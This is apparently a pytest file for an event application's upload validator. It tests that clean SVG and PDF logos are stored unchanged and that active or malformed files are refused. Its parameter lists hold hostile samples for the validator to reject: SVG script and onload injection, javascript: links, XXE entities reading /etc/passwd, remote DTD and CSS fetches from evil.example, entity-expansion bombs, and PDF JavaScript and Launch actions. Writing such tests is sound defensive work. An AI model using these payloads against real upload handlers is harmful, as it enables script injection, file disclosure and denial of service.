"""Vector logos are kept as they came if they only draw; what acts, fetches or is something else is refused."""

from __future__ import annotations

import gzip

import pytest
from flask import Flask

from eventapp.database import transaction
from eventapp.uploads import refusals
from eventapp.uploads.actions import keep_file
from eventapp.uploads.models import Upload
from eventapp.uploads.queries import all_uploads
from eventapp.uploads.refusals import RefusedUpload
from tests.uploads.keeping import AT, files, folder
from tests.uploads.pictures import PDF, SVG, gif_that_is_a_script, png, stream

pytestmark = pytest.mark.usefixtures("in_app")
DRAWING = SVG.format('<style>.a{fill:url(#g)}</style><path class="a" d="M0 0h9"/><use href="#g"/>')
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'


def keep(content: bytes | str, **values: object) -> Upload:
    with transaction():
        return keep_file(stream(content), at=AT, **values)


def outcome(content: bytes | str) -> str:
    try:
        keep(content)
    except RefusedUpload as error:
        return error.message
    return "kept"


@pytest.mark.parametrize(
    ("content", "ending", "media_type"),
    [(DRAWING.encode(), "svg", "image/svg+xml"), (PDF, "pdf", "application/pdf")],
)
def test_a_drawing_is_kept_byte_for_byte_under_a_name_of_ours(app: Flask, content: bytes, ending: str, media_type: str):
    upload = keep(content, name="../../böse.exe")

    (path,) = files(app)
    assert path == f"{upload.digest[:2]}/{upload.digest}-original.{ending}"
    assert (folder(app) / path).read_bytes() == content
    assert (upload.kind, upload.media_type, upload.name) == ("file", media_type, "böse.exe")


def test_the_same_drawing_again_is_the_same_row():
    assert keep(PDF).id == keep(PDF).id


@pytest.mark.parametrize("begin", ["\ufeff", "\n  ", '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Werkzeug -->\n'])
def test_what_tools_write_before_the_drawing_does_no_harm(begin: str):
    assert outcome(begin.replace("\n  ", "") + DRAWING) == "kept"


@pytest.mark.parametrize("text", ["data:image/png;base64,AAAA", "#teil", ""])
def test_a_drawing_may_refer_to_itself_and_carry_pictures(text: str):
    assert outcome(SVG.format(f'<image href="{text}"/>')) == "kept"


def test_a_link_of_a_drawing_may_lead_anywhere_but_into_a_program():
    assert outcome(SVG.format('<a href="https://example.org"/>')) == "kept"
    assert outcome(SVG.format('<a href="javascript:alert(1)"/>')) == refusals.ACTS


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<script href="https://evil.example/x.js"/>',
        '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><p>x</p></body></foreignObject>',
        '<g onload="alert(1)"/>',
        '<animate onbegin="alert(1)"/>',
        '<image href="https://evil.example/x.png"/>',
        '<image href="file:///etc/passwd"/>',
        '<image href=" //evil.example/x.png"/>',
        f'<use {XLINK} xlink:href="https://evil.example/x.svg#a"/>',
        f'<a {XLINK} xlink:href=" javascript:alert(1)"><path/></a>',
        '<a href="data:text/html,x"/>',
        '<style>@import "https://evil.example/x.css";</style>',
        "<style>path { fill: url(https://evil.example/x) }</style>",
        '<path style="fill:url(//evil.example/x)"/>',
        '<image href="data:image/svg+xml,x"/>',
    ],
)
def test_a_drawing_that_acts_or_fetches_is_refused(app: Flask, inside: str):
    assert outcome(SVG.format(inside)) == refusals.ACTS
    assert (files(app), all_uploads()) == ([], [])


@pytest.mark.parametrize(
    "doctype",
    [
        "<!DOCTYPE svg>",
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">',
    ],
)
def test_declarations_and_entities_are_refused_with_the_way_to_save(doctype: str):
    assert outcome(doctype + DRAWING) == refusals.DECLARES


def test_a_style_sheet_from_elsewhere_is_refused():
    assert outcome('<?xml-stylesheet href="https://evil.example/x.css"?>' + DRAWING) == refusals.ACTS


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        ("", refusals.NOTHING),
        ("<html/>", refusals.NO_VECTOR),
        ("<svg/>", refusals.NO_VECTOR),
        (DRAWING[:-3], refusals.DAMAGED_FILE),
        ("<svg", refusals.DAMAGED_FILE),
        (DRAWING.encode("utf-16"), refusals.NO_VECTOR),
        (SVG.format("<g>" * 500 + "</g>" * 500), refusals.DAMAGED_FILE),
        (SVG.format("<g/>" * 200_001), refusals.DAMAGED_FILE),
        (gzip.compress(DRAWING.encode()), refusals.NO_VECTOR),
        (png(), refusals.NO_VECTOR),
        (gif_that_is_a_script(), refusals.NO_VECTOR),
        (b"%!PS-Adobe-3.0 EPSF-3.0\n", refusals.NO_VECTOR),
        (b"MZ" + PDF, refusals.NO_VECTOR),
        (PDF[:-7], refusals.DAMAGED_FILE),
        (PDF + b"x" * 5000, refusals.DAMAGED_FILE),
        (PDF.replace(b"/Catalog", b"/Catalog /OpenAction <</S /JavaScript /JS (x)>>"), refusals.ACTS),
        (PDF.replace(b"/Catalog", b"/Catalog /AA <</S /Launch>>"), refusals.ACTS),
        (b"%PDF-" + b"x" * (5 * 1024 * 1024), refusals.TOO_HEAVY),
    ],
)
def test_what_is_no_whole_drawing_is_refused(app: Flask, content: bytes | str, sentence: str):
    assert outcome(content) == sentence
    assert files(app) == []


def test_only_the_kinds_that_are_asked_for_are_taken():
    with pytest.raises(RefusedUpload):
        keep(PDF, kinds=("svg",))
